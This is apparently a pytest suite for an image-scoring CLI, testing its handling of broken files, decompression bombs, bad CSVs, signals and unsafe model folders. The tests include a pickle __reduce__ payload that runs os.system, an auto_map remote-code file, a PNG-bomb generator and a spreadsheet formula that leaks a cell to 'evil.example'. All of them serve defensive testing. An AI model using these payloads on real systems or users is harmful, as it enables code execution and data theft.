"""Every bad input gets a clear answer, nothing is lost, nothing unsafe is loaded.

The corpus of bad inputs is generated here (Pillow, os, tmp_path) and run through the real CLI: in process with
typer's CliRunner, or as a subprocess where signals, pipes, stdin or privileges matter. The model is the tiny real
CLIP of conftest.py; nothing is mocked.

Unreadable files: root reads files whatever their mode, so a chmod 000 file is readable when the tests run as root.
There the same test runs the CLI in a subprocess that is still uid 0 but without CAP_DAC_OVERRIDE and
CAP_DAC_READ_SEARCH (dropped from the bounding set before exec), so file modes apply and the permission-denied path
is exercised for real; only where that drop is refused is the test skipped, with the reason. (Running as `nobody`
does not work here: the venv's Python lives under /root, mode 700.) FIFOs named like images, which would hang a
plain open(), are in the bad-file corpus too, and 20,000 of them prove that discovery opens nothing.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import pickle
import select
import shutil
import signal
import struct
import subprocess
import sys
import time
import traceback
import zlib
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from pickrank.cli.app import app
from pickrank.errors import ModelLoadError
from tests.support.commands import (
    PROMPT,
    cli,
    drop_file_access_override,
    jsonl,
    no_traceback,
    parse,
    pickrank_cmd,
    png_chunk,
)
from tests.support.images import draw_image
from tests.support.reference import reference_scores

# -- helpers --------------------------------------------------------------------------------------------------











class Deadline(BaseException):
    """Raised by SIGALRM when something that must not block (open a FIFO) does."""


@contextlib.contextmanager
def deadline(seconds: int):
    def on_alarm(signum, frame):
        raise Deadline(f"still running after {seconds} s: something blocked")

    old = signal.signal(signal.SIGALRM, on_alarm)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)




def bomb_png(width: int, height: int, rows: int) -> bytes:
    """A 1-bit PNG declaring width x height whose pixel data stops after `rows` rows: a few KB on disk.

    Decoding it would fail as truncated, so a 'too large' refusal proves the limit was checked before decoding.
    """
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    z = zlib.compressobj(9)
    idat = z.compress(row * rows) + z.flush(zlib.Z_SYNC_FLUSH)  # no end of stream: the decoder wants more
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
            + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b""))


def with_text_chunk(png: bytes, text: str) -> bytes:
    """The same PNG with a tEXt chunk after IHDR: identical pixels, different bytes (so a different content key)."""
    return png[:33] + png_chunk(b"tEXt", b"Comment\x00" + text.encode()) + png[33:]


def errors_by_name(records: list[dict]) -> dict[str, str]:
    return {os.path.basename(r["path"]): r["error"] for r in records if r["error"]}


# -- bad image files ------------------------------------------------------------------------------------------

BAD = {  # file name -> the reason its error record must give
    "empty.png": "empty file",
    "cut.png": "truncated image",
    "cut.jpg": "truncated image",
    "text.png": "not an image",
    "folder.png": "is a directory",
    "dangling.png": "broken symlink",
    "loop1.png": "symlink loop",
    "loop2.png": "symlink loop",
    "pipe.png": "not a regular file",
}


def make_bad_corpus(folder: Path) -> list[str]:
    """Two good images (one in a subfolder with a symlink back up: a loop) and every kind of bad file."""
    good = [draw_image(folder / "good.png", (300, 200), seed=1), draw_image(folder / "sub" / "deep.jpg",
                                                                          (120, 160), seed=2)]
    os.symlink("..", folder / "sub" / "back")  # a folder loop: walked once
    (folder / "empty.png").write_bytes(b"")
    png = draw_image(folder / "tmp.png", (300, 200), seed=3).read_bytes()
    jpg = draw_image(folder / "tmp.jpg", (300, 200), seed=4).read_bytes()
    (folder / "tmp.png").unlink()
    (folder / "tmp.jpg").unlink()
    (folder / "cut.png").write_bytes(png[:len(png) // 2])
    (folder / "cut.jpg").write_bytes(jpg[:len(jpg) // 2])
    (folder / "text.png").write_text("hello, I am not a picture\n")
    (folder / "folder.png").mkdir()
    os.symlink(folder / "missing.png", folder / "dangling.png")
    os.symlink("loop2.png", folder / "loop1.png")
    os.symlink("loop1.png", folder / "loop2.png")
    os.mkfifo(folder / "pipe.png")  # opening this for reading would block forever
    return [str(p) for p in good]


@pytest.mark.parametrize("fmt,workers", [("json", 0), ("jsonl", 2), ("csv", 0)])
def test_bad_files_become_error_records_and_the_rest_is_scored(runner, model_dir, tmp_path, fmt, workers):
    good = make_bad_corpus(tmp_path)
    with deadline(60):
        res = cli(runner, model_dir, "score", "-p", PROMPT, "-f", fmt, str(tmp_path), workers=workers)
    assert res.exit_code == 3, res.output
    records = parse(fmt, res.stdout)
    scored = [r for r in records if not r["error"]]
    assert sorted(r["path"] for r in scored) == sorted(good)  # each once, despite the folder loop
    assert [int(r["rank"]) for r in scored] == [1, 2]
    errors = errors_by_name(records)
    assert set(errors) == set(BAD)
    for name, reason in BAD.items():
        assert reason in errors[name], (name, errors[name])
        assert len(errors[name]) < 100  # a short reason, not a traceback
    for r in records:
        if r["error"]:
            assert r["score"] is None and r["rank"] is None
    # one stderr line per bad file, naming it and the reason
    lines = res.stderr.splitlines()
    for name, reason in BAD.items():
        assert any(os.path.join(str(tmp_path), name) in ln and reason in ln for ln in lines), (name, res.stderr)
    no_traceback(res.stderr)


def test_on_error_fail_stops_at_the_first_bad_file(runner, model_dir, tmp_path):
    draw_image(tmp_path / "b_good.png", (300, 200), seed=1)
    draw_image(tmp_path / "c_good.png", (200, 300), seed=2)
    (tmp_path / "a_bad.png").write_text("not an image")
    out = tmp_path / "out" / "res.json"
    out.parent.mkdir()
    out.write_text("earlier results\n")
    res = cli(runner, model_dir, "score", "-p", PROMPT, "--on-error", "fail", "-f", "json", "-o", str(out),
              str(tmp_path / "a_bad.png"), str(tmp_path / "b_good.png"), str(tmp_path / "c_good.png"))
    assert res.exit_code == 1
    assert f"pickrank: error: {tmp_path / 'a_bad.png'}: not an image" in res.stderr
    assert res.stdout == ""
    # a failed run leaves the earlier file alone, and no temp file behind
    assert out.read_text() == "earlier results\n"
    assert os.listdir(out.parent) == ["res.json"]
    no_traceback(res.stderr)


def test_file_gone_between_listing_and_reading(runner, model_dir, tmp_path):
    good = draw_image(tmp_path / "good.png", (300, 200), seed=1)
    gone = draw_image(tmp_path / "gone.png", (300, 200), seed=2)
    gone.unlink()  # named on stdin, deleted before pickrank reads it
    res = cli(runner, model_dir, "score", "-p", PROMPT, "-", input=f"{good}\n{gone}\n")
    assert res.exit_code == 3
    recs = jsonl(res.stdout)
    assert [(r["path"], r["error"]) for r in recs] == [(str(good), None), (str(gone), "no such file")]
    assert f"{gone}: no such file" in res.stderr




def test_unreadable_file_is_permission_denied(runner, model_dir, tmp_path):
    draw_image(tmp_path / "ok.png", (300, 200), seed=1)
    locked = draw_image(tmp_path / "locked.png", (300, 200), seed=2)
    locked.chmod(0)
    try:
        if os.geteuid() != 0:
            res = cli(runner, model_dir, "score", "-p", PROMPT, str(tmp_path))
            code, stdout, stderr = res.exit_code, res.stdout, res.stderr
        else:
            # Root reads any file whatever its mode: run the real CLI as root without the capabilities that
            # override file permissions, so the permission-denied path is exercised for real.
            try:
                proc = subprocess.run(pickrank_cmd("score", "-p", PROMPT, "--model", str(model_dir), "--no-cache",
                                                   "--workers", "0", str(tmp_path)),
                                      capture_output=True, text=True, timeout=120,
                                      preexec_fn=drop_file_access_override)
            except (OSError, subprocess.SubprocessError) as e:
                pytest.skip(f"running as root and cannot drop CAP_DAC_OVERRIDE here ({e}): a chmod 000 file "
                            "stays readable")
            code, stdout, stderr = proc.returncode, proc.stdout, proc.stderr
    finally:
        locked.chmod(0o644)
    assert code == 3, stderr
    recs = jsonl(stdout)
    assert errors_by_name(recs) == {"locked.png": "permission denied"}
    assert [os.path.basename(r["path"]) for r in recs if not r["error"]] == ["ok.png"]
    assert f"{locked}: permission denied" in stderr
    no_traceback(stderr)


def test_a_folder_of_20000_entries_is_listed_without_opening_them(runner, model_dir, tmp_path):
    # 19,995 FIFOs (hard links to one: creating 20,000 inodes is slow here): opening any of them would block
    # forever, so the deadline proves that none is opened.
    os.mkfifo(tmp_path / "fifo.txt")
    for i in range(19_994):
        os.link(tmp_path / "fifo.txt", tmp_path / f"f{i:05d}.{('txt', 'json', 'dat', 'noext')[i % 4]}")
    good = sorted(str(draw_image(tmp_path / f"img{i}.{ext}", (64, 48), seed=i))
                  for i, ext in enumerate(["png", "jpg", "webp", "PNG", "gif"]))
    assert len(os.listdir(tmp_path)) == 20_000
    with deadline(60):
        res = cli(runner, model_dir, "score", "-p", PROMPT, str(tmp_path))
    assert res.exit_code == 0, res.output
    assert sorted(r["path"] for r in jsonl(res.stdout)) == good


# -- decodable but unusual images -----------------------------------------------------------------------------

def _noise(size: tuple[int, int], seed: int, channels: int = 3) -> np.ndarray:
    rng = np.random.default_rng(seed)
    base = rng.integers(0, 256, (8, 8, channels), dtype=np.uint8)  # blocky, so it survives resizing
    return np.asarray(Image.fromarray(base.squeeze()).resize(size, Image.Resampling.NEAREST))


def _alpha(size: tuple[int, int]) -> np.ndarray:
    w, h = size
    return (np.linspace(0, 255, w)[None, :].repeat(h, 0)).astype(np.uint8)


def make_unusual(folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True)
    made: dict[str, Path] = {}

    def save(case: str, name: str, im: Image.Image, **kw) -> None:
        im.save(folder / name, **kw)
        made[case] = folder / name

    rgb = Image.fromarray(_noise((300, 200), 1))
    save("rgba", "rgba.png", Image.fromarray(np.dstack([_noise((300, 200), 2), _alpha((300, 200))]), "RGBA"))
    la = np.dstack([_noise((200, 300), 3, 1), _alpha((200, 300))])
    save("la", "la.png", Image.fromarray(la, "LA"))
    pal = Image.fromarray(_noise((250, 250), 4)).quantize(16)
    save("palette_transparency", "palette.png", pal, transparency=3)
    gray16 = (np.linspace(0, 65535, 240 * 180).reshape(180, 240) * 0.7 + 5000).astype(np.uint16)
    save("gray16", "gray16.png", Image.fromarray(gray16))
    save("cmyk_jpeg", "cmyk.jpg", Image.fromarray(_noise((220, 330), 5)).convert("CMYK"), quality=90)
    save("bilevel", "bilevel.png", Image.fromarray(_noise((230, 230), 6)).convert("1"))
    frames = [Image.fromarray(_noise((200, 200), 10 + i)) for i in range(3)]
    save("animated_gif", "anim.gif", frames[0], save_all=True, append_images=frames[1:], duration=100, loop=0)
    save("animated_webp", "anim.webp", frames[0], save_all=True, append_images=frames[1:], duration=100,
         lossless=True)
    save("second_frame", "frame2.png", frames[1])  # not a case: shows that the frame choice matters
    save("tiny_1x1", "tiny.png", Image.new("RGB", (1, 1), (200, 30, 40)))
    save("wide_10000x50", "wide.png", Image.fromarray(_noise((10000, 50), 7)))
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: rotate 90 CW to display
    save("exif_rotated_jpeg", "exif_rotated.jpg", rgb, quality=95, exif=exif.tobytes())
    save("exif_free_twin", "exif_free.jpg", rgb, quality=95)  # the same pixels, no EXIF
    save("transposed", "transposed.png", rgb.transpose(Image.Transpose.ROTATE_270))  # what EXIF asks to show
    save("uppercase_png", "UPPER.PNG", Image.fromarray(_noise((260, 200), 8)))
    save("uppercase_jpg", "UPPER2.JPG", Image.fromarray(_noise((200, 260), 9)), quality=90)
    save("unicode_name", "猫 café ünïcödé 🐱.png", Image.fromarray(_noise((210, 190), 11)))
    save("space_name", "with  two spaces .webp", Image.fromarray(_noise((190, 210), 12)), lossless=True)
    return made


UNUSUAL = ["rgba", "la", "palette_transparency", "gray16", "cmyk_jpeg", "bilevel", "animated_gif", "animated_webp",
           "tiny_1x1", "wide_10000x50", "exif_rotated_jpeg", "uppercase_png", "uppercase_jpg", "unicode_name",
           "space_name"]


@pytest.fixture(scope="module")
def unusual(model_dir, tmp_path_factory):
    """One CLI run over every unusual image, and the independent reference scores of the same files."""
    from typer.testing import CliRunner

    made = make_unusual(tmp_path_factory.mktemp("unusual") / "imgs")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("HF_HUB_OFFLINE", "1")
        res = CliRunner().invoke(app, ["score", "-p", PROMPT, "--model", str(model_dir), "--no-cache", "-f", "json",
                                       "--workers", "0", str(made["rgba"].parent)])
    assert res.exit_code == 0, res.output
    mine = {r["path"]: r for r in json.loads(res.stdout)}
    paths = [str(p) for p in made.values()]
    ref = dict(zip(paths, reference_scores(model_dir, PROMPT, paths)))
    return made, mine, ref


@pytest.mark.parametrize("case", UNUSUAL)
def test_unusual_image_is_scored_as_the_reference_scores_it(unusual, case):
    made, mine, ref = unusual
    path = str(made[case])
    assert path in mine, f"{case} was not found in the folder"
    assert mine[path]["error"] is None
    assert mine[path]["score"] == pytest.approx(ref[path], abs=1e-4)


def test_first_frame_and_exif_orientation_as_the_reference(unusual):
    made, mine, ref = unusual
    score = {case: mine[str(p)]["score"] for case, p in made.items()}
    # the first frame is scored: the second frame scores differently, so a wrong frame would be noticed
    assert abs(score["second_frame"] - score["animated_gif"]) > 1e-3
    # EXIF orientation is ignored, as the reference's Image.open ignores it: the twin without EXIF scores the same,
    # and applying the orientation would have changed the score
    assert score["exif_rotated_jpeg"] == pytest.approx(score["exif_free_twin"], abs=1e-6)
    assert abs(score["transposed"] - score["exif_rotated_jpeg"]) > 1e-3


def test_decompression_bomb_is_refused_without_decoding(runner, model_dir, tmp_path):
    (tmp_path / "bomb.png").write_bytes(bomb_png(10_000, 10_000, rows=64))  # 100 Mpx declared, ~1 KB on disk
    assert (tmp_path / "bomb.png").stat().st_size < 10_000
    Image.new("1", (4000, 3000), 1).save(tmp_path / "big.png")  # 12 Mpx, a real image
    draw_image(tmp_path / "small.png", (300, 200), seed=1)

    def run(*extra: str) -> tuple[int, dict[str, str | None], str]:
        res = cli(runner, model_dir, "score", "-p", PROMPT, *extra, str(tmp_path))
        return res.exit_code, {os.path.basename(r["path"]): r["error"] for r in jsonl(res.stdout)}, res.stderr

    # default limit (Pillow's 89,478,485 px): the bomb is refused before decoding, the 12 Mpx image is scored
    code, errs, stderr = run()
    assert code == 3
    assert errs["small.png"] is None and errs["big.png"] is None
    assert "too large to decode safely: 10000x10000" in errs["bomb.png"] and "--max-pixels" in errs["bomb.png"]
    assert "bomb.png: too large" in stderr
    # a lower limit refuses the 12 Mpx image too
    code, errs, _ = run("--max-pixels", "10000000")
    assert code == 3 and errs["small.png"] is None
    assert "too large" in errs["big.png"] and "too large" in errs["bomb.png"]
    # a higher limit lets the bomb through to the decoder, which then finds its data cut short: so the refusal
    # above happened before any decoding
    code, errs, _ = run("--max-pixels", "200000000")
    assert code == 3 and errs["small.png"] is None and errs["big.png"] is None
    assert errs["bomb.png"] == "truncated image"


# -- prompts ----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("args", [["score", "-p", "", "IMG"], ["score", "-p", "  \n ", "IMG"],
                                  ["best-of-n", "DIR", "-p", ""]])
def test_empty_prompt_is_a_usage_error(runner, model_dir, tmp_path, args):
    img = draw_image(tmp_path / "a.png", (300, 200), seed=1)
    args = [str(img) if a == "IMG" else str(tmp_path) if a == "DIR" else a for a in args]
    res = cli(runner, model_dir, *args)
    assert res.exit_code == 2
    assert res.stderr.strip() == "pickrank: error: the prompt is empty: give --prompt TEXT"


def test_long_and_unicode_prompts(runner, model_dir, tmp_path):
    imgs = [str(draw_image(tmp_path / f"{i}.png", (300, 200), seed=i)) for i in range(3)]
    long_prompt = "a red cat on a blue sofa in the sun, " * 12  # far over 77 tokens
    emoji_prompt = "un chat roux 🐱 sur un canapé bleu — 猫, «quoted»"
    for prompt, truncated in [(long_prompt, True), (emoji_prompt, False)]:
        res = cli(runner, model_dir, "score", "-p", prompt, "-f", "json", *imgs)
        assert res.exit_code == 0, res.output
        recs = json.loads(res.stdout)
        assert {r["prompt"] for r in recs} == {prompt}
        assert all(r["truncated"] is truncated for r in recs)
        assert ("longer than 77 tokens, truncated" in res.stderr) is truncated
        ref = dict(zip(imgs, reference_scores(model_dir, prompt, imgs)))  # the reference truncates at 77 too
        for r in recs:
            assert r["score"] == pytest.approx(ref[r["path"]], abs=1e-4)


# -- batch CSVs ---------------------------------------------------------------------------------------------------

BATCH_ROWS = [("r1", "a red cat,\non a sofa"), ("r2", "🐱 emoji; and\ttab"), ("r3", "plain")]


@pytest.mark.parametrize("delimiter,bom,blank_lines", [(",", True, True), (";", False, True), ("\t", True, False)])
def test_batch_csv_dialects(runner, model_dir, tmp_path, delimiter, bom, blank_lines):
    imgs = [str(draw_image(tmp_path / f"{i}.png", (300, 200), seed=i)) for i in range(2)]
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, lineterminator="\n", quoting=csv.QUOTE_MINIMAL)
    w.writerow(["id", "prompt"])
    for row in BATCH_ROWS:
        w.writerow(row)
        if blank_lines:
            buf.write("\n")
    path = tmp_path / "prompts.csv"
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + buf.getvalue().encode())
    res = cli(runner, model_dir, "batch", str(path), *imgs)
    assert res.exit_code == 0, res.output
    recs = jsonl(res.stdout)
    assert [(r["id"], r["prompt"]) for r in recs[::2]] == BATCH_ROWS
    assert len(recs) == 6 and all(r["error"] is None for r in recs)


def test_batch_without_prompt_column_names_the_columns(runner, model_dir, tmp_path):
    path = tmp_path / "p.csv"
    path.write_text("id,text,images\n1,a cat,x.png\n")
    res = cli(runner, model_dir, "batch", str(path))
    assert res.exit_code == 2
    assert f"{path}: no 'prompt' column (found: id, text, images)" in res.stderr


def test_batch_non_utf8_csv_is_a_clear_usage_error(runner, model_dir, tmp_path):
    path = tmp_path / "latin1.csv"
    path.write_bytes("prompt\nun café crème\n".encode("latin-1"))
    res = cli(runner, model_dir, "batch", str(path), str(tmp_path))
    assert res.exit_code == 2
    assert f"{path}: not UTF-8 (line 2" in res.stderr and "save it as UTF-8" in res.stderr
    assert len(res.stderr.strip().splitlines()) == 1


def test_batch_rows_matching_nothing_and_duplicate_ids(runner, model_dir, tmp_path):
    for i in range(2):
        draw_image(tmp_path / "imgs" / f"{i}.png", (300, 200), seed=i)
    path = tmp_path / "p.csv"
    path.write_text("id,prompt,images\n"
                    "a,a red cat,imgs\n"
                    "b,a blue dog,nothing/*.png\n"
                    "a,a green bird,imgs\n")
    res = cli(runner, model_dir, "batch", str(path))
    assert res.exit_code == 3, res.output
    recs = jsonl(res.stdout)
    by_row = [(r["id"], r["prompt"], r["error"]) for r in recs]
    assert by_row.count(("a", "a red cat", None)) == 2
    assert by_row.count(("a", "a green bird", None)) == 2
    bad = [r for r in recs if r["id"] == "b"]
    assert len(bad) == 1 and bad[0]["prompt"] == "a blue dog" and "match no file" in bad[0]["error"]
    assert "nothing/*.png" in res.stderr and "match no file" in res.stderr
    assert "id 'a' of row 3 repeats row 1's" in res.stderr


def test_csv_output_escapes_formulas(runner, model_dir, tmp_path, monkeypatch):
    names = ["=cmd.png", "@x.png", "+x.png", "-x.png", "ok.png"]
    for i, name in enumerate(names):
        draw_image(tmp_path / name, (300, 200), seed=i)
    monkeypatch.chdir(tmp_path)  # relative paths, so the cells start with the dangerous character
    prompt = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
    res = cli(runner, model_dir, "score", f"--prompt={prompt}", "-f", "csv", "-",
              input="\n".join(names) + "\n")
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(io.StringIO(res.stdout)))
    assert {r["prompt"] for r in rows} == {"'" + prompt}
    assert sorted(r["path"] for r in rows) == sorted(["'=cmd.png", "'@x.png", "'+x.png", "'-x.png", "ok.png"])
    for r in rows:  # numbers are numbers, not escaped text
        float(r["score"])


# -- runs and outputs --------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def slow_groups(tmp_path_factory) -> Path:
    """best-of-n groups of big, cheap-to-write PNGs that take a while to decode: a run long enough to interrupt."""
    root = tmp_path_factory.mktemp("slow")
    buf = io.BytesIO()
    Image.new("RGB", (2000, 2000), (200, 30, 40)).save(buf, format="PNG")
    base = buf.getvalue()
    for g in range(40):
        for i in range(2):
            (root / f"g{g:02d}").mkdir(exist_ok=True)
            (root / f"g{g:02d}" / f"{i}.png").write_bytes(with_text_chunk(base, f"{g}-{i}"))
    return root


def _read_first_line(proc: subprocess.Popen, timeout: float) -> bytes:
    ready, _, _ = select.select([proc.stdout], [], [], timeout)
    assert ready, "no output in time"
    return proc.stdout.readline()


def test_ctrl_c_mid_run_keeps_whole_lines_on_stdout(model_dir, slow_groups):
    sig, code, word = signal.SIGINT, 130, "interrupted"
    proc = subprocess.Popen(pickrank_cmd("best-of-n", str(slow_groups), "-p", PROMPT, "--model", str(model_dir),
                                         "--no-cache", "--batch-size", "1", "--workers", "0", "-f", "jsonl"),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        first = _read_first_line(proc, 120)
        proc.send_signal(sig)
        rest, err = proc.communicate(timeout=60)
    finally:
        proc.kill()
    lines = (first + rest).decode().splitlines()
    recs = [json.loads(line) for line in lines]  # every line is a whole record
    assert 1 <= len(recs) < 40  # stopped before the end
    assert all(r["error"] is None and r["rank"] == 1 for r in recs)
    assert proc.returncode == code, err.decode()
    assert f"pickrank: {word}; results so far were kept" in err.decode()
    no_traceback(err.decode())


def test_sigterm_mid_run_leaves_a_whole_output_file(model_dir, slow_groups, tmp_path):
    # (SIGINT with -o takes the same path in _run; it and SIGTERM on stdout are not rerun here, to save time)
    sig, code, fmt = signal.SIGTERM, 143, "json"
    out = tmp_path / f"res.{fmt}"
    proc = subprocess.Popen(pickrank_cmd("best-of-n", str(slow_groups), "-p", PROMPT, "--model", str(model_dir),
                                         "--no-cache", "--batch-size", "1", "--workers", "0", "-f", fmt,
                                         "-o", str(out)),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        # wait for the temp file beside the target to hold a first ranking (more than the header or "[")
        end = time.monotonic() + 120
        while time.monotonic() < end:
            tmps = [p for p in tmp_path.iterdir() if p.name.startswith(f".{out.name}.") and p.name.endswith(".tmp")]
            if tmps and tmps[0].stat().st_size > 60:
                break
            assert proc.poll() is None, proc.stderr.read().decode()
            time.sleep(0.05)
        else:
            pytest.fail("no result was written in time")
        assert not out.exists()  # never visible half-written
        proc.send_signal(sig)
        stdout, err = proc.communicate(timeout=60)
    finally:
        proc.kill()
    assert proc.returncode == code, err.decode()
    assert stdout == b""
    no_traceback(err.decode())
    assert sorted(p.name for p in tmp_path.iterdir()) == [out.name]  # renamed into place, no temp left
    recs = parse(fmt, out.read_text())
    assert 1 <= len(recs) < 40
    for r in recs:
        assert r["path"].endswith(".png") and r["group"].startswith("g") and isinstance(r["score"], float)
    assert out.read_text().rstrip().endswith("]")


@pytest.mark.timing
def test_closed_stdout_pipe_ends_quietly(model_dir, slow_groups):
    cmd = (f"set +o pipefail; {sys.executable} -m pickrank best-of-n '{slow_groups}' -p x --model '{model_dir}' "
           "--no-cache --batch-size 1 --workers 0 -q | head -1")
    start = time.monotonic()
    proc = subprocess.run(["bash", "-c", cmd], capture_output=True, text=True, timeout=120)
    assert len(jsonl(proc.stdout)) == 1
    assert proc.stderr == "", proc.stderr  # no traceback, no BrokenPipeError, no 'Exception ignored'
    assert proc.returncode == 0
    assert time.monotonic() - start < 60


def test_unwritable_output_is_refused_before_the_model_loads(runner, tmp_path):
    img = draw_image(tmp_path / "a.png", (300, 200), seed=1)
    missing_model = tmp_path / "no-model-here"
    for target, why in [(tmp_path / "no-such-folder" / "res.json", "does not exist"), (tmp_path, "is a folder")]:
        res = runner.invoke(app, ["score", "-p", PROMPT, "--model", str(missing_model), "-o", str(target), str(img)])
        assert res.exit_code == 1
        # the output error, not the model error: nothing was loaded first
        assert res.stderr.startswith(f"pickrank: error: -o {target}") and why in res.stderr, res.stderr
        assert "cannot load" not in res.stderr and len(res.stderr.strip().splitlines()) == 1


# -- model loading --------------------------------------------------------------------------------------------

class _Payload:
    """Unpickling this writes a marker file: proof that a pickle checkpoint was (or was not) loaded."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch '{self.marker}'",))


def _model_copy(model_dir: Path, dest: Path, weights: bool) -> Path:
    shutil.copytree(model_dir, dest, ignore=None if weights else shutil.ignore_patterns("*.safetensors"))
    return dest


def _one_line_error(res, *parts: str) -> None:
    assert res.exit_code == 1, res.output
    lines = res.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("pickrank: error: "), res.stderr
    for part in parts:
        assert part in lines[0], lines[0]
    no_traceback(res.stderr)


def test_pickle_only_model_is_refused_unopened(runner, model_dir, tmp_path):
    folder = _model_copy(model_dir, tmp_path / "pickled", weights=False)
    marker = tmp_path / "UNPICKLED"
    (folder / "pytorch_model.bin").write_bytes(pickle.dumps(_Payload(str(marker))))
    img = draw_image(tmp_path / "a.png", (300, 200), seed=1)
    res = runner.invoke(app, ["score", "-p", PROMPT, "--model", str(folder), str(img)])
    _one_line_error(res, "pytorch_model.bin", "safetensors only", "arbitrary code")
    assert not marker.exists()


def test_remote_code_in_a_model_folder_is_never_run(runner, model_dir, tmp_path):
    folder = _model_copy(model_dir, tmp_path / "remote", weights=True)
    marker = tmp_path / "REMOTE_CODE_RAN"
    (folder / "evil.py").write_text(f"open({str(marker)!r}, 'w').close()\n"
                                    "from transformers import CLIPConfig as EvilConfig\n"
                                    "from transformers import CLIPModel as EvilModel\n")
    cfg = json.loads((folder / "config.json").read_text())
    cfg["auto_map"] = {"AutoConfig": "evil.EvilConfig", "AutoModel": "evil.EvilModel"}
    (folder / "config.json").write_text(json.dumps(cfg))
    img = draw_image(tmp_path / "a.png", (300, 200), seed=1)
    res = runner.invoke(app, ["score", "-p", PROMPT, "--model", str(folder), "--no-cache", str(img)])
    assert not marker.exists()
    assert res.exit_code == 0, res.output  # the CLIP code that ships with transformers ran instead


def test_missing_model_folder_is_one_line(runner, tmp_path):
    img = draw_image(tmp_path / "a.png", (300, 200), seed=1)
    res = runner.invoke(app, ["score", "-p", PROMPT, "--model", str(tmp_path / "nope"), str(img)])
    _one_line_error(res, str(tmp_path / "nope"), "no such folder")


@pytest.fixture
def bert_dir(tmp_path) -> Path:
    from transformers import BertConfig, BertModel

    cfg = BertConfig(vocab_size=64, hidden_size=8, num_hidden_layers=1, num_attention_heads=1, intermediate_size=8,
                     max_position_embeddings=16)
    folder = tmp_path / "bert"
    BertModel(cfg).save_pretrained(folder, safe_serialization=True)
    assert (folder / "model.safetensors").exists()
    return folder


def test_non_clip_model_is_one_line_and_debug_shows_the_traceback(runner, bert_dir, tmp_path):
    img = draw_image(tmp_path / "a.png", (300, 200), seed=1)
    res = runner.invoke(app, ["score", "-p", PROMPT, "--model", str(bert_dir), str(img)])
    _one_line_error(res, str(bert_dir), "'bert' model, not CLIP")
    # --debug lets the exception out of the CLI: Python prints its traceback (typer's pretty printing is off)
    res = runner.invoke(app, ["score", "-p", PROMPT, "--model", str(bert_dir), "--debug", str(img)])
    assert isinstance(res.exception, ModelLoadError) and "'bert' model, not CLIP" in str(res.exception)
    tb = "".join(traceback.format_exception(*res.exc_info))
    assert "Traceback (most recent call last)" in tb and "check_is_clip" in tb


def test_weights_that_fail_to_load_in_the_background_are_one_line(runner, model_dir, tmp_path):
    # A truncated checkpoint passes the JSON checks made before the run; the load in its thread fails, and the run
    # stops with the load's error, as one line, leaving no output file.
    broken = Path(shutil.copytree(model_dir, tmp_path / "broken"))
    data = (broken / "model.safetensors").read_bytes()
    (broken / "model.safetensors").write_bytes(data[: len(data) // 2])
    imgs = [draw_image(tmp_path / f"{i}.png", (300, 200), seed=i) for i in range(3)]
    out = tmp_path / "out.jsonl"
    res = runner.invoke(app, ["score", "-p", PROMPT, "--model", str(broken), "-o", str(out), *map(str, imgs)])
    _one_line_error(res, f"cannot load {broken}")
    assert not out.exists()
    # Every input failing (nothing needs the model) does not hide that the model failed to load.
    (tmp_path / "not_an_image.png").write_bytes(b"plain text")
    res = runner.invoke(app, ["score", "-p", PROMPT, "--model", str(broken), str(tmp_path / "not_an_image.png")])
    assert res.exit_code == 1, res.output
    assert res.stderr.strip().splitlines()[-1].startswith(f"pickrank: error: cannot load {broken}")
    no_traceback(res.stderr)
